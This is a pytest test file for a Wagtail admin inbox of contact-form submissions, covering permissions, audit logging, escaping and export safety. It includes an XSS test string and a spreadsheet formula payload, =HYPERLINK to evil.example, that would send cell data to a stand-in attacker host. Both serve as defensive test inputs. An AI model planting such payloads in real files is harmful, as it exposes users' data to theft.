"""The contact inbox in the Wagtail admin: who may see what, and the audit trail."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.models import ModelLogEntry

from forms.models import ContactSubmission, SubmissionNote
from tests.factories import sign_in_verified

from .conftest import valid_answers

HOSTILE = "<script>alert('x')</script>"


def url(name, *args):
    return reverse(f"wagtailsnippets_forms_contactsubmission:{name}", args=args)


@pytest.fixture
def submission(contact_page):
    return ContactSubmission.objects.create(
        page=contact_page,
        form_data={
            "name": HOSTILE,
            "email": "jordan@example.org",
            "message": f"{HOSTILE}\nSecond line",
            "phone": "=1+1",
        },
        email="jordan@example.org",
        service="Peer groups",
    )


def logged(submission, action):
    return ModelLogEntry.objects.filter(object_id=str(submission.pk), action=action)


def admin_urls(submission):
    return {
        "listing": url("list"),
        "detail": url("inspect", submission.pk),
        "export": url("list") + "?export=csv",
        "edit": url("edit", submission.pk),
        "delete": url("delete", submission.pk),
        "erase": url("erase"),
        "chooser": reverse("wagtailsnippetchoosers_forms_contactsubmission:choose"),
        "wagtail form listing": reverse("wagtailforms:list_submissions", args=[submission.page_id]),
    }


@pytest.mark.parametrize(
    "who, allowed",
    [
        ("anonymous", set()),
        ("editor", set()),
        ("intake", {"listing", "detail", "export", "edit", "delete", "erase", "chooser"}),
        ("superuser", {"listing", "detail", "export", "edit", "delete", "erase", "chooser"}),
    ],
)
def test_only_intake_and_superusers_reach_submissions(client, submission, make_user, who, allowed):
    if who != "anonymous":
        sign_in_verified(
            client,
            make_user(
                who,
                group={"editor": "Editors", "intake": "Intake"}.get(who),
                superuser=who == "superuser",
            ),
        )
    for name, address in admin_urls(submission).items():
        response = client.get(address)
        if name in allowed:
            assert response.status_code == 200, (who, name, response.status_code)
        elif who == "anonymous":
            assert response.status_code == 302 and "/login/" in response["Location"], name
        else:
            assert response.status_code in (302, 403, 404), (who, name, response.status_code)
            assert HOSTILE not in response.content.decode(), (who, name)
            assert "jordan@example.org" not in response.content.decode(), (who, name)


def test_editor_can_still_edit_the_contact_page(client, contact_page, editor):
    sign_in_verified(client, editor)
    response = client.get(reverse("wagtailadmin_pages:edit", args=[contact_page.pk]))
    assert response.status_code == 200


def test_listing_escapes_and_logs_each_submission_shown(client, submission, intake_user):
    sign_in_verified(client, intake_user)
    html = client.get(url("list")).content.decode()
    assert HOSTILE not in html
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in html
    entry = logged(submission, "forms.submission.listed").get()
    assert entry.user == intake_user
    assert entry.timestamp is not None


def test_detail_escapes_and_logs_the_view(client, submission, intake_user):
    sign_in_verified(client, intake_user)
    html = client.get(url("inspect", submission.pk)).content.decode()
    assert HOSTILE not in html
    assert "&lt;script&gt;" in html
    assert "Second line" in html
    assert logged(submission, "forms.submission.viewed").get().user == intake_user


def test_listing_filters_and_search(client, contact_page, submission, intake_user):
    closed = ContactSubmission.objects.create(
        page=contact_page,
        form_data={"name": "Sam"},
        email="sam@example.org",
        status=ContactSubmission.Status.CLOSED,
    )
    sign_in_verified(client, intake_user)

    def listed(query):
        return set(client.get(url("list") + query).context["object_list"])

    assert listed("?status=closed") == {closed}
    assert listed("?service=Peer+groups") == {submission}
    assert listed("?email=SAM@example.org") == {closed}
    assert listed("?q=sam") == {closed}
    assert listed("?submit_time_from=2000-01-01") == {closed, submission}
    assert listed("?submit_time_to=2000-01-01") == set()


def test_csv_export_neutralises_formulas_and_logs(client, submission, intake_user):
    sign_in_verified(client, intake_user)
    response = client.get(url("list") + "?export=csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0]["Name"] == HOSTILE
    assert rows[0]["Phone"] == "'=1+1"
    assert logged(submission, "forms.submission.exported").get().data == {"format": "csv"}


def test_xlsx_export_neutralises_formulas_and_logs(client, submission, intake_user):
    sign_in_verified(client, intake_user)
    response = client.get(url("list") + "?export=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header, first = list(sheet.iter_rows(values_only=True))[:2]
    row = dict(zip(header, first, strict=True))
    assert row["Name"] == HOSTILE
    assert row["Phone"] == "'=1+1"
    assert logged(submission, "forms.submission.exported").exists()


def test_export_needs_its_own_permission(client, submission, make_user):
    from django.contrib.auth.models import Group, Permission

    readers = Group.objects.create(name="Readers")
    readers.permissions.add(
        Permission.objects.get(codename="access_admin"),
        Permission.objects.get(codename="view_contactsubmission"),
    )
    sign_in_verified(client, make_user("reader", group="Readers"))
    assert client.get(url("list")).status_code == 200
    denied = client.get(url("list") + "?export=csv")
    assert denied.status_code == 302 and denied["Location"] == reverse("wagtailadmin_home")
    assert not logged(submission, "forms.submission.exported").exists()


def test_status_change_and_note_are_saved_and_logged(client, submission, intake_user):
    sign_in_verified(client, intake_user)
    response = client.post(
        url("edit", submission.pk),
        {"status": "in_progress", "assignee": intake_user.pk, "note": "Called back, <b>ok</b>"},
    )
    assert response.status_code == 302
    submission.refresh_from_db()
    assert submission.status == "in_progress"
    assert submission.assignee == intake_user
    note = SubmissionNote.objects.get()
    assert (note.author, note.text) == (intake_user, "Called back, <b>ok</b>")
    change = logged(submission, "forms.submission.status_changed").get()
    assert change.data == {"from": "new", "to": "in_progress"}
    assert change.user == intake_user
    assert logged(submission, "forms.submission.note_added").get().user == intake_user
    html = client.get(url("inspect", submission.pk)).content.decode()
    assert "Called back, &lt;b&gt;ok&lt;/b&gt;" in html


def test_assignee_must_be_someone_who_may_read_submissions(client, submission, intake_user, editor):
    sign_in_verified(client, intake_user)
    response = client.post(url("edit", submission.pk), {"status": "new", "assignee": editor.pk})
    assert response.status_code == 200
    submission.refresh_from_db()
    assert submission.assignee is None


def test_bulk_status_change(client, contact_page, submission, intake_user):
    other = ContactSubmission.objects.create(page=contact_page, form_data={})
    sign_in_verified(client, intake_user)
    action = reverse("wagtail_bulk_action", args=["forms", "contactsubmission", "change_status"])
    query = f"?id={submission.pk}&id={other.pk}"
    assert client.get(action + query).status_code == 200
    response = client.post(action + query, {"status": "closed"})
    assert response.status_code == 302
    assert set(ContactSubmission.objects.values_list("status", flat=True)) == {"closed"}
    assert logged(other, "forms.submission.status_changed").get().user == intake_user


def test_bulk_delete_is_logged(client, submission, intake_user):
    sign_in_verified(client, intake_user)
    action = reverse("wagtail_bulk_action", args=["forms", "contactsubmission", "delete"])
    response = client.post(f"{action}?id={submission.pk}")
    assert response.status_code == 302
    assert not ContactSubmission.objects.exists()
    assert logged(submission, "wagtail.delete").get().user == intake_user


def test_single_delete_is_logged(client, submission, intake_user):
    sign_in_verified(client, intake_user)
    assert client.post(url("delete", submission.pk)).status_code == 302
    assert not ContactSubmission.objects.exists()
    assert logged(submission, "wagtail.delete").get().user == intake_user


def test_erase_everything_from_one_address(client, contact_page, submission, intake_user):
    kept = ContactSubmission.objects.create(page=contact_page, form_data={}, email="x@example.org")
    SubmissionNote.objects.create(submission=submission, author=intake_user, text="n")
    ContactSubmission.objects.create(page=contact_page, form_data={}, email="JORDAN@example.org")
    sign_in_verified(client, intake_user)

    found = client.post(url("erase"), {"email": "jordan@example.org"})
    assert found.context["match_count"] == 2
    assert ContactSubmission.objects.count() == 3

    erased = client.post(url("erase"), {"email": "jordan@example.org", "confirm": "on"})
    assert erased.status_code == 302
    assert list(ContactSubmission.objects.all()) == [kept]
    assert not SubmissionNote.objects.exists()
    assert logged(submission, "forms.submission.erased").get().user == intake_user


def test_dashboard_counts_new_submissions_for_intake_only(client, contact_page, make_user):
    for status in ("new", "new", "closed", "spam"):
        ContactSubmission.objects.create(page=contact_page, form_data={}, status=status)
    sign_in_verified(client, make_user("intake", group="Intake"))
    assert "2 new submissions" in client.get(reverse("wagtailadmin_home")).content.decode()
    sign_in_verified(client, make_user("editor", group="Editors"))
    assert "new submission" not in client.get(reverse("wagtailadmin_home")).content.decode()


def test_submission_from_the_form_appears_in_the_inbox(client, contact_page, intake_user):
    client.post(contact_page.url, valid_answers())
    sign_in_verified(client, intake_user)
    assert client.get(url("list")).context["object_list"][0].email == "jordan@example.org"


def test_listing_queries_do_not_grow_with_the_number_of_submissions(
    client, contact_page, intake_user
):
    sign_in_verified(client, intake_user)

    def queries_for_listing(count):
        ContactSubmission.objects.all().delete()
        for n in range(count):
            ContactSubmission.objects.create(
                page=contact_page, form_data={"name": f"N{n}"}, assignee=intake_user
            )
        client.get(url("list"))  # warms what is cached until the next change (the site)
        with CaptureQueriesContext(connection) as context:
            assert client.get(url("list")).status_code == 200
        return len(context.captured_queries)

    few, many = queries_for_listing(3), queries_for_listing(30)
    print(f"\ninbox listing: {few} queries for 3 submissions, {many} for 30")
    assert few == many


def test_listing_names_the_sender_when_editors_renamed_the_name_field(
    client, contact_page, intake_user
):
    ContactSubmission.objects.create(page=contact_page, form_data={"your_name": "Rosa Díaz"})
    sign_in_verified(client, intake_user)
    assert "Rosa Díaz" in client.get(url("list")).content.decode()


FORMULA_LABEL = '=HYPERLINK("http://evil.example/?"&E2,"Phone")'


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_export_headings_from_field_labels_cannot_run(
    client, submission, intake_user, export_format
):
    """Editors who may not read submissions still write the form's labels, which head
    the export's columns: a label written as a formula stays text."""
    phone = submission.page.specific.form_fields.get(clean_name="phone")
    phone.label = FORMULA_LABEL
    phone.save()
    sign_in_verified(client, intake_user)
    response = client.get(url("list") + f"?export={export_format}")
    content = b"".join(response.streaming_content)
    if export_format == "csv":
        header = next(csv.reader(io.StringIO(content.decode())))
        cells = header
    else:
        sheet = load_workbook(io.BytesIO(content)).active
        cells = [cell.value for cell in next(sheet.iter_rows())]
        assert {cell.data_type for cell in next(sheet.iter_rows())} == {"s"}
    assert "'" + FORMULA_LABEL in cells
    assert not any(str(cell).startswith("=") for cell in cells)
